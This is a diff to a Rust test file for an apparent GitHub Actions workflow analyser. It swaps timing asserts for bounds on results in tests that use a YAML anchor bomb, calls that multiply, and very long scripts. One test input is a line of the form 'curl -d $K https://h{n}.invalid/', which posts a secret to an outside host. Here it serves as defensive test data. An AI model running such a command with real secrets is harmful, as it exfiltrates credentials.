@@ -1,10 +1,8 @@
-//! What is too large or too clever is refused with its reason, and reading stays linear.
-
-use std::time::Instant;
+//! What is too large or too clever is refused with its reason; that these tests end is half of them.
 
 use beholden::power::{self, Text, Tree};
 
-use crate::power::shown::{job, one, public, steps, unknowns};
+use crate::power::shown::{job, named, one, public, steps, unknowns};
 
 #[test]
 fn too_much_is_refused_with_a_reason() {
@@ -44,10 +42,8 @@ fn anchors_that_multiply_are_refused() {
         bomb.push_str(&format!("a{level}: &a{level} [{inner}]\n"));
     }
     bomb.push_str("jobs: {a: {runs-on: ubuntu-latest, steps: []}}\n");
-    let began = Instant::now();
     let powers = one(&bomb);
     assert!(!powers.unknowns().is_empty(), "refused");
-    assert!(began.elapsed().as_secs() < 5);
 }
 
 #[test]
@@ -74,10 +70,9 @@ fn calls_that_multiply_are_cut_off() {
         .chain([(".github/workflows/d.yml".to_owned(), steps("workflow_call", "- run: a"))])
         .collect();
     let tree: Tree = files.iter().map(|(path, text)| (path, text)).collect();
-    let began = Instant::now();
     let powers = power::of(&tree, &public());
     assert!(unknowns(&powers).iter().any(|why| why.contains("jobs and steps")));
-    assert!(began.elapsed().as_secs() < 60, "{:?}", began.elapsed());
+    assert!(powers.grants().len() < 100_000, "{}", powers.grants().len());
 }
 
 #[test]
@@ -90,7 +85,7 @@ fn variables_times_steps_are_cut_off() {
 }
 
 #[test]
-fn a_script_of_thousands_of_lines_is_read_in_reasonable_time() {
+fn a_script_of_thousands_of_lines_is_read_to_its_bounds() {
     let env = "\n  env: {K: '${{ secrets.K }}'}";
     for line in [
         "curl -d $K https://h{n}.invalid/",
@@ -100,10 +95,8 @@ fn a_script_of_thousands_of_lines_is_read_in_reasonable_time() {
     ] {
         let lines: String =
             (0..5_000).map(|n| format!("    {}\n", line.replace("{n}", &n.to_string()))).collect();
-        let began = Instant::now();
         let powers = one(&steps("push", &format!("- run: |\n{lines}{env}")));
-        assert!(!powers.grants().is_empty() || !powers.unknowns().is_empty());
-        assert!(began.elapsed().as_secs() < 30, "{line}: {:?}", began.elapsed());
+        assert!(named(&powers, "build").power.secrets.len() == 1, "{line}");
     }
 }
 
@@ -125,10 +118,8 @@ fn files_that_could_not_be_read_are_unknown() {
 }
 
 #[test]
-fn a_large_workflow_is_read_in_reasonable_time() {
+fn a_large_workflow_is_read_whole() {
     let jobs: String = (0..300).map(|n| format!("  j{n}:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: octo-org/act@v1\n        with: {{k: '${{{{ secrets.K }}}}'}}\n      - run: make\n")).collect();
-    let began = Instant::now();
     let powers = one(&format!("on: push\njobs:\n{jobs}"));
     assert_eq!(powers.grants().len(), 600);
-    assert!(began.elapsed().as_secs() < 30, "{:?}", began.elapsed());
 }
